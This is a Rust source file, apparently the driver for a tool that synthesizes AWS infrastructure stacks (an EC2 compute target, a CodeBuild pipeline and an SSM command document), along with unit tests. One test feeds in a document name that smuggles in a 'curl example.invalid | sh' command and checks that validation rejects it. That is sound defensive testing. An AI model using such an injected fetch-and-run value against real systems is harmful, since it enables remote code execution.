//! Application driver
//!
//! Stacks are added in a fixed order: compute target, pipeline, command
//! document. The pipeline reads the compute identity, so adding it first
//! fails with [`SynthError::MissingReference`] before any of its resources are
//! declared. Nothing is written until [`App::synth`] is called.

use crate::assembly::{CloudAssembly, StackEntry};
use crate::document::DocumentSource;
use crate::error::{SynthError, SynthResult};
use crate::secrets::SecretResolver;
use crate::stacks::{
    CommandDocumentStack, ComputeIdentity, ComputeTargetStack, ConfigPipelineStack, Stack,
};
use repave_common::RepaveConfig;
use std::path::Path;
use tracing::info;

/// What [`App::add_pipeline`] reports as missing when the compute target is absent
const COMPUTE_IDENTITY: &str = "the compute target's instance role";

pub struct App {
    config: RepaveConfig,
    stacks: Vec<Stack>,
    identity: Option<ComputeIdentity>,
}

impl App {
    /// Validate `config` and start an empty application
    ///
    /// Values are interpolated into shell commands and resource names, so an
    /// invalid config fails here with [`SynthError::Config`].
    pub fn new(config: RepaveConfig) -> SynthResult<Self> {
        Ok(Self {
            config: config.validated()?,
            stacks: Vec::new(),
            identity: None,
        })
    }

    pub fn config(&self) -> &RepaveConfig {
        &self.config
    }

    fn push(&mut self, stack: Stack) -> SynthResult<()> {
        if self.stack(stack.name()).is_some() {
            return Err(SynthError::DuplicateStack(stack.name().to_string()));
        }
        self.stacks.push(stack);
        Ok(())
    }

    /// Add the compute target and remember its identity
    pub fn add_compute_target(&mut self, user_data_path: &Path) -> SynthResult<&ComputeIdentity> {
        let target = ComputeTargetStack::build(&self.config, user_data_path)?;
        self.push(target.stack)?;
        Ok(self.identity.insert(target.identity))
    }

    /// Add the pipeline; the compute target must already be present
    pub fn add_pipeline(&mut self, secrets: &dyn SecretResolver) -> SynthResult<()> {
        let Some(identity) = &self.identity else {
            return Err(SynthError::MissingReference {
                consumer: format!("Stack '{}'", self.config.stacks.pipeline),
                reference: COMPUTE_IDENTITY,
            });
        };
        let stack = ConfigPipelineStack::build(&self.config, identity, secrets)?;
        self.push(stack)
    }

    pub fn add_command_document(&mut self, source: &dyn DocumentSource) -> SynthResult<()> {
        let stack = CommandDocumentStack::build(&self.config, source)?;
        self.push(stack)
    }

    /// Identity exposed by the compute target, once added
    pub fn identity(&self) -> Option<&ComputeIdentity> {
        self.identity.as_ref()
    }

    pub fn stacks(&self) -> &[Stack] {
        &self.stacks
    }

    pub fn stack(&self, name: &str) -> Option<&Stack> {
        self.stacks.iter().find(|s| s.name() == name)
    }

    /// Write the cloud assembly of every added stack
    pub fn synth(&self, out_dir: &Path) -> SynthResult<CloudAssembly> {
        CloudAssembly::write(out_dir, &self.stacks, &self.config.asset_qualifier)
    }
}

/// External inputs of a synthesis run
pub struct SynthInputs<'a> {
    pub user_data: &'a Path,
    pub document: &'a dyn DocumentSource,
    pub secrets: &'a dyn SecretResolver,
}

/// Build all three stacks in order and write the assembly
///
/// All stacks are built in memory first, so any failure leaves `out_dir`
/// untouched.
pub fn synthesize(
    config: RepaveConfig,
    inputs: SynthInputs<'_>,
    out_dir: &Path,
) -> SynthResult<CloudAssembly> {
    let mut app = App::new(config)?;

    let identity = app.add_compute_target(inputs.user_data)?;
    info!(export = %identity.export_name(), "Compute identity available");
    app.add_pipeline(inputs.secrets)?;
    app.add_command_document(inputs.document)?;

    app.synth(out_dir)
}

/// Stacks a run would produce, in synthesis order
pub fn planned_stacks(config: &RepaveConfig) -> Vec<StackEntry> {
    let names = &config.stacks;
    let entry = |name: &str, dependencies: Vec<String>| StackEntry {
        name: name.to_string(),
        template_file: format!("{name}.template.json"),
        dependencies,
    };
    vec![
        entry(&names.compute, Vec::new()),
        entry(&names.pipeline, vec![names.compute.clone()]),
        entry(&names.document, Vec::new()),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::document::InlineDocumentSource;
    use crate::secrets::DynamicReferenceResolver;
    use std::fs;

    const DOCUMENT: &str = "schemaVersion: '2.2'\nmainSteps:\n  - action: aws:runShellScript\n    name: run\n";

    #[test]
    fn test_pipeline_before_compute_is_missing_reference() {
        let mut app = App::new(RepaveConfig::default()).unwrap();
        let err = app.add_pipeline(&DynamicReferenceResolver).unwrap_err();
        assert!(err.is_missing_reference());
        assert!(app.stacks().is_empty());
    }

    #[test]
    fn test_compute_then_pipeline() {
        let dir = tempfile::tempdir().unwrap();
        let script = dir.path().join("user_data.sh");
        fs::write(&script, "#!/bin/bash\n").unwrap();

        let mut app = App::new(RepaveConfig::default()).unwrap();
        app.add_compute_target(&script).unwrap();
        app.add_pipeline(&DynamicReferenceResolver).unwrap();

        assert!(app.identity().is_some());
        let names: Vec<_> = app.stacks().iter().map(Stack::name).collect();
        assert_eq!(names, ["ec2-instance-cloudwatch-repave", "codebuild-pipeline"]);
    }

    #[test]
    fn test_same_stack_twice_is_rejected() {
        let mut app = App::new(RepaveConfig::default()).unwrap();
        let source = InlineDocumentSource::new("doc", DOCUMENT);
        app.add_command_document(&source).unwrap();
        let err = app.add_command_document(&source).unwrap_err();
        assert!(matches!(err, SynthError::DuplicateStack(name) if name == "SSMRepaveDocument"));
    }

    #[test]
    fn test_unsafe_document_name_is_rejected() {
        let mut config = RepaveConfig::default();
        config.document.name = "x\"; curl example.invalid | sh; echo \"".to_string();
        let err = App::new(config).err().unwrap();
        assert!(matches!(err, SynthError::Config(_)));
        assert!(err.to_string().contains("forbidden character"));
    }

    #[test]
    fn test_zero_concurrency_is_rejected() {
        let mut config = RepaveConfig::default();
        config.pipeline.command.max_concurrency = 0;
        assert!(matches!(App::new(config), Err(SynthError::Config(_))));
    }

    #[test]
    fn test_planned_stacks_order() {
        let planned = planned_stacks(&RepaveConfig::default());
        let names: Vec<_> = planned.iter().map(|s| s.name.as_str()).collect();
        assert_eq!(
            names,
            ["ec2-instance-cloudwatch-repave", "codebuild-pipeline", "SSMRepaveDocument"]
        );
        assert_eq!(planned[1].dependencies, ["ec2-instance-cloudwatch-repave"]);
    }
}
